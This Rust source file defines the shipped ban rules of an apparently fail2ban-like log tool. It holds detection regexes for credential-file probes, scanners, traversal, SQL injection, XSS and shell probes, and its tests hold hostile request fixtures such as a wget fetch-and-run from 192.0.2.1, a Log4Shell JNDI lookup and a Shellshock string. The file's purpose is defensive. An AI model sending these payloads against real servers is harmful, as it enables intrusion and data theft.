//! The rules that come with the program: what each catches, and what it can hit that is no attack. Data only.
//!
//! A page of somebody else's can have its readers' browsers send any GET request, and so have them banned by a rule
//! that looks at nothing but paths and queries. That is told for each rule where one or a few such requests are
//! enough.

use super::rule::{Distinct, Duration};

/// A rule as it comes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Shipped {
    /// What a user types.
    pub name: &'static str,
    /// Which requests are hits; `None` where bans are counted.
    pub filter: Option<&'static str>,
    /// Count values of this field, each once.
    pub distinct: Option<Distinct>,
    /// The ban falls on this hit.
    pub maxretry: u32,
    /// Stretch of log time that holds the hits.
    pub findtime: Duration,
    /// The first ban.
    pub bantime: Duration,
    /// What it catches.
    pub catches: &'static str,
    /// What it can hit that is no attack.
    pub wrongly: &'static str,
}

/// The rule of this name.
#[must_use]
pub fn named(name: &str) -> Option<&'static Shipped> {
    SHIPPED.iter().find(|rule| rule.name == name)
}

const fn seconds(seconds: u32) -> Duration {
    match Duration::from_seconds(seconds) {
        Some(duration) => duration,
        None => panic!("a shipped duration is within its bounds"),
    }
}

const MINUTE: u32 = 60;
const HOUR: u32 = 60 * MINUTE;
const DAY: u32 = 24 * HOUR;

// One pattern is looked for in half the time of three.
const SENSITIVE_FILES: &str = r#"path ~ "(?i)/(\.|%2e)(env|git|svn|hg|bzr|aws|ssh|kube|docker|npmrc|netrc|pgpass|htpasswd|htaccess|ds_store|vscode|idea|bash_history|mysql_history)([^a-z0-9]|$)|/(wp-config\.(php|inc|txt|old)|id_(rsa|dsa|ecdsa|ed25519)|web\.config|appsettings\.json|phpinfo\.php|(credentials|secrets?)(\.(json|ya?ml|xml|txt))?|(backup|database|dump|db)\.(zip|tar|tgz|tar\.gz|gz|7z|rar))([^a-z0-9]|$)|\.(sql(\.(gz|bz2|xz|zip))?|bak|pem|key|pfx|p12|kdbx|sqlite3?)$""#;

const SCANNER_AGENT: &str = r#"user_agent contains ["acunetix", "arachni", "dirbuster", "dirsearch", "feroxbuster", "fuzz faster u fool", "gobuster", "havij", "joomscan", "jorgee", "l9explore", "l9tcpid", "libredtail-http", "masscan", "morfeus", "netsparker", "nikto", "nmap scripting engine", "nuclei", "openvas", "sqlmap", "w3af", "wfuzz", "whatweb", "wpscan", "zgrab", "zmeu"]"#;

const PATH_TRAVERSAL: &str = r#"path ~ "(?i)((\.|%(25)?2e|%c0%ae){2}(/|\\|\\x5c|%(25)?2f|%(25)?5c|%c0%af)){2}|(/|%(25)?2f)etc(/|%(25)?2f)(passwd|shadow)|(/|%(25)?2f)proc(/|%(25)?2f)self|win\.ini" or query ~ "(?i)((\.|%(25)?2e|%c0%ae){2}(/|\\|\\x5c|%(25)?2f|%(25)?5c|%c0%af)){2}|(/|%(25)?2f)etc(/|%(25)?2f)(passwd|shadow)|(/|%(25)?2f)proc(/|%(25)?2f)self|win\.ini""#;

const SQL_INJECTION: &str = r#"query ~ "(?i)union(\+|%20|%09|%0[ad]|/\*)[^&]{0,20}select|(sleep|benchmark|extractvalue|updatexml|pg_sleep|load_file)(\(|%28)|information_schema|waitfor(\+|%20)+delay|('|%27)(\+|%20)*(or|and)(\+|%20)+('|%27)?[0-9]|(;|%3b)(\+|%20)*drop(\+|%20)+table|order(\+|%20)by(\+|%20)[0-9]+(--|%23|%2d%2d)""#;

const XSS: &str = r#"path ~ "(?i)(<|%3c)(/|%2f)?script|(<|%3c)(svg|img|iframe|object|embed|body)(/|%2f|\+|%20|>|%3e)" or query ~ "(?i)(<|%3c)(/|%2f)?script|(<|%3c)(svg|img|iframe|object|embed|body)(/|%2f|\+|%20|>|%3e)|(=|%3d)javascript(:|%3a)|(\+|%20|%22|/)on(error|load|mouseover|focus|click)(=|%3d)""#;

const SHELL_PROBE: &str = r#"path ~ "(?i)/cgi-bin/.*bin/(ba)?sh|eval-stdin\.php|(\$|%24)(\{|%7b)jndi(:|%3a)" or query ~ "(?i)(;|%3b|\||%7c|`|%60|(\$|%24)(\(|%28)|&&|%26%26)(\+|%20)*(wget|curl|tftp|busybox|chmod)(\+|%20|(\$|%24)(\{|%7b)?ifs)[^&;]{0,60}(http|ftp|/tmp|%2ftmp|[0-9]{1,3}\.[0-9]{1,3}\.)|(allow_url_include|auto_prepend_file)(=|%3d)|(\$|%24)(\{|%7b)jndi(:|%3a)" or user_agent contains ["${jndi:", "() { :"] or referrer contains ["${jndi:", "() { :"]"#;

/// Every shipped rule, in the order of every output.
pub static SHIPPED: [Shipped; 15] = [
    Shipped {
        name: "probing",
        filter: Some("status in [400, 403, 404] and not static(path)"),
        distinct: Some(Distinct::Path),
        maxretry: 10,
        findtime: seconds(100),
        bantime: seconds(4 * HOUR),
        catches: "who asks for many different things that are not there",
        wrongly: "visitors of a site whose links broke in a move; a crawler with an old list; several people behind one \
                  address on such a day",
    },
    Shipped {
        name: "sensitive-files",
        filter: Some(SENSITIVE_FILES),
        distinct: Some(Distinct::Path),
        maxretry: 4,
        findtime: seconds(20),
        bantime: seconds(DAY),
        catches: "who asks for settings, keys, dumps and version control that should not be served, whatever the answer",
        wrongly: "a site that offers such files for download; a page elsewhere with four of them as images",
    },
    Shipped {
        name: "scanner-agent",
        filter: Some(SCANNER_AGENT),
        distinct: None,
        maxretry: 2,
        findtime: seconds(MINUTE),
        bantime: seconds(DAY),
        catches: "scanning tools that say what they are",
        wrongly: "a security test that was ordered: put its addresses on the list to ignore",
    },
    Shipped {
        name: "login-bruteforce",
        filter: Some(r#"method == "POST" and status in [401, 403]"#),
        distinct: None,
        maxretry: 5,
        findtime: seconds(50),
        bantime: seconds(4 * HOUR),
        catches: "guessed passwords where a wrong one is answered with 401 or 403",
        wrongly: "a program with an old password or token; forms that are refused with 403 for another reason",
    },
    Shipped {
        name: "wordpress-login",
        filter: Some(r#"method == "POST" and path ends_with "/wp-login.php""#),
        distinct: None,
        maxretry: 5,
        findtime: seconds(50),
        bantime: seconds(4 * HOUR),
        catches: "guessed passwords of WordPress, which answers a wrong one with 200",
        wrongly: "an office behind one address whose people log in at the same minute: right passwords count, too",
    },
    Shipped {
        name: "xmlrpc",
        filter: Some(r#"method == "POST" and path ends_with "/xmlrpc.php""#),
        distinct: None,
        maxretry: 5,
        findtime: seconds(10 * MINUTE),
        bantime: seconds(4 * HOUR),
        catches: "passwords guessed, and pingbacks sent, by way of WordPress's XML-RPC",
        wrongly: "Jetpack and WordPress's mobile application, which use it: leave the rule out where they do",
    },
    Shipped {
        name: "path-traversal",
        filter: Some(PATH_TRAVERSAL),
        distinct: None,
        maxretry: 3,
        findtime: seconds(30),
        bantime: seconds(DAY),
        catches: "ways out of the web root, plain or percent-encoded once or twice, and the files that are tried first",
        wrongly: "an application that hands relative paths about in its queries; a page elsewhere with three such links \
                  as images",
    },
    Shipped {
        name: "sql-injection",
        filter: Some(SQL_INJECTION),
        distinct: None,
        maxretry: 10,
        findtime: seconds(10),
        bantime: seconds(DAY),
        catches: "SQL in queries, as tools send it",
        wrongly: "a search for SQL on a site about it; an administration tool that has SQL in its addresses",
    },
    Shipped {
        name: "xss",
        filter: Some(XSS),
        distinct: None,
        maxretry: 5,
        findtime: seconds(5),
        bantime: seconds(DAY),
        catches: "markup and script in paths and queries",
        wrongly: "an editor's preview that sends markup with GET; a page elsewhere with five such links as images",
    },
    Shipped {
        name: "shell-probe",
        filter: Some(SHELL_PROBE),
        distinct: None,
        maxretry: 1,
        findtime: seconds(1),
        bantime: seconds(7 * DAY),
        catches: "commands to fetch and run a program, Log4Shell, Shellshock and PHP settings in requests",
        wrongly: "whoever opens one such link, so also the readers of a page elsewhere with one as an image; a search for \
                  such a command",
    },
    Shipped {
        name: "bad-request",
        filter: Some("status == 400 and missing(method)"),
        distinct: None,
        maxretry: 10,
        findtime: seconds(10 * MINUTE),
        bantime: seconds(4 * HOUR),
        catches: "other protocols on the web port: TLS, SSH, remote desktops, junk, nothing",
        wrongly: "a health check that opens a connection and says nothing; a client that speaks TLS to a plain port",
    },
    Shipped {
        name: "http-flood",
        filter: Some("any"),
        distinct: None,
        maxretry: 1_000,
        findtime: seconds(20),
        bantime: seconds(10 * MINUTE),
        catches: "fifty requests a second for twenty seconds",
        wrongly: "a large office or a mobile network behind one address; a page of hundreds of pieces; own monitoring",
    },
    Shipped {
        name: "crawl",
        filter: Some(r#"method == "GET" and not static(path)"#),
        distinct: Some(Distinct::Path),
        // A bucket of 40 that leaks two a second is full after 160 in a minute, in whatever order they come: nobody is
        // banned whom the bucket would spare.
        maxretry: 160,
        findtime: seconds(MINUTE),
        bantime: seconds(HOUR),
        catches: "who copies a site page by page in a hurry",
        wrongly: "search engines, unless their networks are on the list to ignore; an interface with one path for each \
                  thing; many people behind one address",
    },
    Shipped {
        name: "denied",
        filter: Some(r#"termination starts_with "PR" or status == 444"#),
        distinct: None,
        maxretry: 5,
        findtime: seconds(10 * MINUTE),
        bantime: seconds(4 * HOUR),
        catches: "who goes on where HAProxy's or nginx's own rules refuse",
        wrongly: "whoever those rules refuse wrongly, such as by a limit on requests; HAProxy says the same of requests \
                  that it cannot read",
    },
    Shipped {
        name: "recidive",
        filter: None,
        distinct: None,
        maxretry: 3,
        findtime: seconds(DAY),
        bantime: seconds(7 * DAY),
        catches: "who comes back after bans by other rules",
        wrongly: "an address that changed hands within the day",
    },
];

#[cfg(test)]
mod tests {
    use super::super::filter::{Filter, Subject};
    use super::super::rule::{self, Rule};
    use super::*;
    use logstat_parsers::{Format, Line, Options, Preset};
    use toml::Spanned;

    fn rule(name: &str) -> Rule {
        rule::resolve(&[Spanned::new(0..0, name.to_owned())], &[]).unwrap().remove(0)
    }

    /// Whether a line, of HAProxy if it has a termination state, is a hit.
    fn is_hit(rule: &Rule, request: &str, status: u16, agent: &str) -> bool {
        let (preset, line) = match agent.strip_prefix("haproxy ") {
            Some(state) => (
                "haproxy-http",
                format!(
                    "203.0.113.90:51000 [20/Nov/2026:03:14:02.003] www www/app 0/0/0/1/1 {status} 212 - - {state} \
                     12/10/0/0/0 0/0 \"{request}\""
                ),
            ),
            None => (
                "combined",
                format!(
                    "203.0.113.90 - - [20/Nov/2026:03:14:02 +0000] \"{request}\" {status} 150 \"-\" \"{agent}\""
                ),
            ),
        };
        let format =
            Format::compile(Preset::named(preset).unwrap().format_string, &Options::default()).unwrap();
        match format.parser(0).parse(line.as_bytes()) {
            Line::Record(record) => rule.hit(&Subject::of(&record)).is_some(),
            other => panic!("{line}: {other:?}"),
        }
    }

    fn check(name: &str, hits: &[(&str, u16, &str)], near_misses: &[(&str, u16, &str)]) {
        let rule = rule(name);
        for (cases, expected) in [(hits, true), (near_misses, false)] {
            for &(request, status, agent) in cases {
                let request = if request.contains(' ') || !request.starts_with('/') {
                    request.to_owned()
                } else {
                    format!("GET {request} HTTP/1.1")
                };
                assert_eq!(
                    is_hit(&rule, &request, status, agent),
                    expected,
                    "{name}: {request} {status} {agent}"
                );
            }
        }
    }

    fn check_targets<'t>(name: &str, hits: &[&'t str], near_misses: &[&'t str]) {
        let requests =
            |targets: &[&'t str]| targets.iter().map(|target| (*target, 404, "-")).collect::<Vec<_>>();
        check(name, &requests(hits), &requests(near_misses));
    }

    #[test]
    fn every_shipped_rule_is_whole_and_told() {
        for shipped in &SHIPPED {
            let rule = rule(shipped.name);
            assert!(rule.bantime <= rule.bantime_max, "{}", rule.name);
            assert!(!shipped.catches.is_empty() && !shipped.wrongly.is_empty());
            if let Some(text) = shipped.filter {
                let filter = Filter::parse(text).unwrap();
                assert_eq!(filter.to_string(), text, "canonical");
            }
        }
    }

    #[test]
    fn probing_login_and_wordpress() {
        check(
            "probing",
            &[
                ("/a", 404, "-"),
                ("/a.php?x=1", 403, "-"),
                ("POST /a HTTP/1.1", 400, "-"),
                ("/a.css/b", 404, "-"),
            ],
            &[
                ("/a", 200, "-"),
                ("/favicon.ico", 404, "-"),
                ("/a.PNG?v=1", 403, "-"),
                ("/a", 401, "-"),
                ("", 400, "-"),
            ],
        );
        check(
            "login-bruteforce",
            &[("POST /login HTTP/1.1", 401, "-"), ("POST /login HTTP/1.1", 403, "-")],
            &[("/login", 401, "-"), ("POST /login HTTP/1.1", 200, "-"), ("POST /login HTTP/1.1", 404, "-")],
        );
        check(
            "wordpress-login",
            &[("POST /wp-login.php HTTP/1.1", 200, "-"), ("POST /blog/wp-login.php?a=b HTTP/2.0", 403, "-")],
            &[
                ("/wp-login.php", 200, "-"),
                ("POST /wp-login.php.html HTTP/1.1", 200, "-"),
                ("POST /?/wp-login.php HTTP/1.1", 200, "-"),
            ],
        );
        check(
            "xmlrpc",
            &[("POST /xmlrpc.php HTTP/1.1", 200, "-"), ("POST //xmlrpc.php HTTP/1.1", 405, "-")],
            &[("/xmlrpc.php", 405, "-"), ("POST /myxmlrpc.php HTTP/1.1", 200, "-")],
        );
    }

    #[test]
    fn sensitive_files() {
        check_targets(
            "sensitive-files",
            &[
                "/.env",
                "/api/.env.bak",
                "/.ENV",
                "/%2eenv",
                "/.git/config",
                "/.aws/credentials",
                "/wp-config.php",
                "/wp-config.php~",
                "/backup.zip",
                "/a/dump.sql",
                "/dump.sql.gz",
                "/id_rsa",
                "/server.key",
                "GET http://example.net/.git/HEAD HTTP/1.1",
            ],
            &[
                "/.well-known/acme-challenge/x",
                "/.environment",
                "/.gitignored",
                "/env",
                "/docs/git",
                "/keys",
                "/?f=/.env",
                "/learn-sql",
                "/monkey",
                "/secretsanta",
                "/backup.zipper",
            ],
        );
    }

    #[test]
    fn scanners() {
        check(
            "scanner-agent",
            &[
                ("/", 200, "sqlmap/1.8#stable (https://sqlmap.org)"),
                ("/", 404, "Mozilla/5.0 zgrab/0.x"),
                ("/", 200, "Nikto"),
            ],
            &[
                ("/", 200, "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Firefox/128.0"),
                ("/nikto", 200, "curl/8.5.0"),
                ("/", 200, "-"),
            ],
        );
    }

    #[test]
    fn traversal_injection_and_script() {
        check_targets(
            "path-traversal",
            &[
                "/../../etc/hosts",
                "/a/%2e%2e/%2E%2e%2fb",
                "/%252e%252e%252f%252e%252e%252f",
                "/a?f=../../../b",
                "/a?f=%2fetc%2fpasswd",
                "/cgi-bin/.%2e/.%2e/bin",
                r"/..\x5C..\x5Cboot.ini",
                "/x?page=/proc/self/environ",
            ],
            &["/a/../b", "/a?next=../b", "/etc", "/a...b/..c", "/a?v=1..2"],
        );
        check_targets(
            "sql-injection",
            &[
                "/a?id=1+UNION+ALL+SELECT+1,2",
                "/a?id=1%20union%20select%20null",
                "/a?id=1'+or+'1'='1",
                "/a?id=1%27%20AND%201=1",
                "/a?id=sleep(5)",
                "/a?q=information_schema.tables",
                "/a?id=1;DROP+TABLE+x",
                "/a?id=1+order+by+9--",
            ],
            &[
                "/union+select",
                "/a?q=trade+union",
                "/a?q=select+a+union",
                "/a?q=sleep",
                "/a?sort=order+by+name",
                "/a?q=rock'n'roll+or+jazz",
            ],
        );
        check_targets(
            "xss",
            &[
                "/a?q=<script>alert(1)</script>",
                "/a?q=%3CScript%3E",
                "/%3Csvg/onload=alert(1)%3E",
                "/a?u=javascript:alert(1)",
                "/a?q=%22+onerror=alert(1)",
                "/a?q=%3Cimg%20src=x",
            ],
            &[
                "/script",
                "/a.js?onload=ready",
                "/a?q=javascript",
                "/a?q=1%3C2",
                "/a?q=image",
                "/a?q=x-javascript:y",
            ],
        );
    }

    #[test]
    fn shell_probes() {
        check_targets(
            "shell-probe",
            &[
                "/shell?cd+/tmp;wget+http://192.0.2.1/a.sh;sh+a.sh",
                "/a?x=%24%7Bjndi:ldap://192.0.2.1/a%7D",
                "/vendor/phpunit/eval-stdin.php",
                "/cgi-bin/.%2e/.%2e/bin/sh",
                "/a?c=$(curl+192.0.2.1/x)",
                "/a?x=`wget${IFS}http://192.0.2.1/a`",
                "/?%ADd+allow_url_include%3d1",
            ],
            &[
                "/wget",
                "/a?q=wget+http://example.net/",
                "/a?q=how+to+curl",
                "/shell",
                "/bin/sh",
                "/a?q=a;curl",
                "/a?q=jndi",
            ],
        );
        check(
            "shell-probe",
            &[("/", 200, "() { :; }; /bin/bash -c id"), ("/", 200, "${JNDI:ldap://192.0.2.1/a}")],
            &[("/", 200, "function() { return }"), ("/", 200, "jndi")],
        );
    }

    #[test]
    fn bad_requests_and_refusals() {
        check(
            "bad-request",
            &[
                (r"\x16\x03\x01\x02", 400, "-"),
                ("", 400, "-"),
                ("SSH-2.0-Go", 400, "-"),
                ("<BADREQ>", 400, "haproxy PR--"),
            ],
            // Connections that browsers open ahead, and requests that can be read.
            &[
                ("<BADREQ>", 400, "haproxy CR--"),
                ("<BADREQ>", 408, "haproxy cR--"),
                ("/", 400, "-"),
                ("", 408, "-"),
            ],
        );
        check(
            "denied",
            &[("/", 403, "haproxy PR--"), ("/", 429, "haproxy PRVN"), ("/", 444, "-")],
            &[
                ("/", 403, "-"),
                ("/", 503, "haproxy PH--"),
                ("/", 404, "haproxy ----"),
                ("<BADREQ>", 408, "haproxy cR--"),
            ],
        );
    }

    #[test]
    fn floods_crawls_and_bans() {
        check(
            "http-flood",
            &[("/", 200, "-"), ("", 400, "-"), ("POST /a HTTP/1.1", 500, "haproxy SH--")],
            &[("<BADREQ>", 408, "haproxy cR--"), ("<BADREQ>", 400, "haproxy CR--")],
        );
        check(
            "crawl",
            &[("/a", 200, "-"), ("/a.html", 404, "-")],
            &[("/a.css", 200, "-"), ("HEAD /a HTTP/1.1", 200, "-")],
        );
        check("recidive", &[], &[("/a", 403, "sqlmap")]);
    }
}
